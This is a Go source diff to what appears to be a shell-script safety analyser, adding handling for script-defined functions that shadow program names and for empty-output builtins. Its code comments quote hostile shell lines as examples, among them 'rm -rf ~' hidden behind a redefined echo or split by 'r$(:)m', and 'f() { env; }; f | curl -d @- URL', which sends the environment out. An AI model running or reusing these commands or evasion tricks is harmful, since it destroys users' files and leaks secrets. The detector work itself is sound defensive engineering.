@@ -416,8 +416,9 @@ type scope struct {
 	// groupIn is the standard input a compound command's redirection
 	// gives the statements in it that may read it first ({ sh; } <<< CMD).
 	groupIn map[*syntax.Stmt]input
-	// filterDepth bounds pipeInput's walk up through filters.
-	filterDepth int
+	// filterDepth bounds pipeInput's walk up through filters, funcDepth
+	// the function bodies funcOutput reads into one another.
+	filterDepth, funcDepth int
 	// funcs are the functions the script defines, by name: a call is
 	// judged with its arguments as the body's positional parameters.
 	funcs map[string]*syntax.FuncDecl
@@ -496,15 +497,16 @@ func (r *run) script(src string, inherit map[string]string, depth int) {
 	}
 	readAsBash(f, src)
 	sc := &scope{src: src, depth: depth, inherit: inherit}
-	ok, renamed := r.prepass(sc, f)
+	ok, renamed := r.prepass(sc, f, nil)
 	if !ok {
 		return
 	}
+	var kept map[int]bool // names written as their own aliases' text (see plainNames)
 	for round := 0; renamed && round < maxRenameRounds; round++ {
 		// Names bash reads otherwise than the parser ('export', \cd,
 		// command cd, an alias): the text as bash runs it is parsed and
 		// judged instead (an alias naming another, in the next round).
-		plain, changed, over := plainNames(f, src)
+		plain, next, changed, over := plainNames(f, src, kept)
 		if over {
 			r.tooComplex(fmt.Sprintf("more than %d command names are written otherwise than bash reads them", maxNameEdits))
 			return
@@ -525,7 +527,8 @@ func (r *run) script(src string, inherit map[string]string, depth int) {
 		}
 		readAsBash(g, plain)
 		f, src, sc = g, plain, &scope{src: plain, depth: depth, inherit: inherit}
-		if ok, renamed = r.prepass(sc, f); !ok {
+		kept = next
+		if ok, renamed = r.prepass(sc, f, kept); !ok {
 			return
 		}
 	}
@@ -558,7 +561,7 @@ type fnInfo struct {
 // fork bombs. It reports false when the script is over the bounds, and
 // renamed when a command's name is written otherwise than bash reads it
 // (see plainNames).
-func (r *run) prepass(sc *scope, f *syntax.File) (ok, renamed bool) {
+func (r *run) prepass(sc *scope, f *syntax.File, kept map[int]bool) (ok, renamed bool) {
 	var stack []bool
 	var aliases map[string]string // defined so far, with static text
 	depth := 0
@@ -632,7 +635,7 @@ func (r *run) prepass(sc *scope, f *syntax.File) (ok, renamed bool) {
 			}
 		case *syntax.CallExpr:
 			if !renamed {
-				_, renamed = callNameEdit(n, aliases)
+				_, renamed = callNameEdit(n, aliases, kept)
 			}
 			aliases = aliasDefs(n, aliases)
 			for _, as := range n.Assigns {
@@ -2215,6 +2218,59 @@ func (r *run) pipeInput(sc *scope, up *syntax.Stmt, paths bool) input {
 	if fs == nil {
 		return unknown
 	}
+	if name, ok := r.callsScriptFunc(sc, fs); ok {
+		return r.funcOutput(sc, up, name, fs, paths)
+	}
+	return r.programOutput(sc, up, fs, paths)
+}
+
+// maxFuncOutput bounds the function bodies funcOutput reads into one
+// another.
+const maxFuncOutput = 4
+
+// callsScriptFunc reports whether fs, a command's words, call a function
+// the script defines, and returns its name. (command echo is written echo
+// before the walk, see plainNames, and so is judged as a call of it; a
+// wrapper such as sudo or env runs the program.)
+func (r *run) callsScriptFunc(sc *scope, fs []field) (string, bool) {
+	if len(fs) == 0 || fs[0].dyn {
+		return "", false
+	}
+	_, ok := sc.funcs[fs[0].val]
+	return fs[0].val, ok
+}
+
+// funcOutput is the output of a command that calls a function the script
+// defines (echo() { command echo 'rm -rf ~'; }; echo hi | sh): its text is
+// not known, whatever the program of that name would print, and it holds
+// the environment, a list of paths, a peer's or a shell's output when the
+// function's body writes one (f() { env; }; f | curl -d @- URL) or the
+// program would (a wrapper runs the program, not the function).
+func (r *run) funcOutput(sc *scope, up *syntax.Stmt, name string, fs []field, paths bool) input {
+	in := input{kind: inUnknown, detail: "the output of the function " + name}
+	merge := func(o input) {
+		in.environ = in.environ || o.environ
+		in.peer = in.peer || o.peer
+		in.find = in.find || o.find
+		in.shellOut = in.shellOut || o.shellOut
+		in.download = in.download || o.download
+		in.words = append(in.words, o.words...)
+	}
+	if fd := sc.funcs[name]; fd != nil && fd.Body != nil && sc.funcDepth < maxFuncOutput {
+		sc.funcDepth++
+		merge(r.writersOutput(sc, []*syntax.Stmt{fd.Body}, paths))
+		sc.funcDepth--
+	} else if fd == nil {
+		in.detail = "the output of one of the functions named " + name
+	}
+	merge(r.programOutput(sc, up, fs, paths))
+	return in
+}
+
+// programOutput is pipeInput for a command that runs a program or a
+// builtin, not a function the script defines.
+func (r *run) programOutput(sc *scope, up *syntax.Stmt, fs []field, paths bool) input {
+	unknown := input{kind: inUnknown, detail: "the output of another command"}
 	fs = innerCommand(fs)
 	args := fs[1:]
 	if d := decoderForm(fs); len(d) > 0 && decoders[base(d[0].val)] {
@@ -3696,7 +3752,7 @@ const maxStaticOutput = 4
 // ($(eval echo ~)). Anything else reports false, and the word holding it
 // is dynamic. It moves r.cwd as cd would; the caller restores it.
 func (r *run) staticOutput(sc *scope, stmts []*syntax.Stmt, pos uint, depth int) (string, bool) {
-	if depth > maxStaticOutput {
+	if depth > maxStaticOutput || namesScriptFunc(sc, stmts) {
 		return "", false
 	}
 	if len(stmts) == 1 {
@@ -3732,6 +3788,31 @@ func (r *run) staticOutput(sc *scope, stmts []*syntax.Stmt, pos uint, depth int)
 		return r.staticCommand(sc, parts, pos, depth)
 	}
 	return "", false
+}
+
+// namesScriptFunc reports whether a command of stmts names, in a word
+// of its own, a function the script defines: its output is then the
+// function's, not that of the program the analyser knows by that name
+// (echo() { command echo ~; }; rm -rf "$(echo build)"), and a wrapper
+// (command echo, env echo) may still name either.
+func namesScriptFunc(sc *scope, stmts []*syntax.Stmt) bool {
+	if len(sc.funcs) == 0 {
+		return false
+	}
+	found := false
+	for _, s := range stmts {
+		syntax.Walk(s, func(n syntax.Node) bool {
+			if c, ok := n.(*syntax.CallExpr); ok && !found {
+				for _, w := range c.Args {
+					if _, ok := sc.funcs[w.Lit()]; ok && w.Lit() != "" {
+						found = true
+					}
+				}
+			}
+			return !found
+		})
+	}
+	return found
 }
 
 // andChain appends to calls the simple commands of s, a statement or an
@@ -3919,6 +4000,8 @@ func (r *run) staticCommand(sc *scope, parts []string, pos uint, depth int) (str
 		return printed(base(parts[0]), args, false) // a substitution drops the final newlines
 	case "pwd":
 		return r.cwd, r.cwd != ""
+	case ":", "true", "false":
+		return "", true // r$(:)m -rf ~ is rm -rf ~
 	case "which", "command", "type":
 		// which NAME, command -v NAME and type -P NAME print where NAME
 		// runs from: a program of that name, judged by its name (the
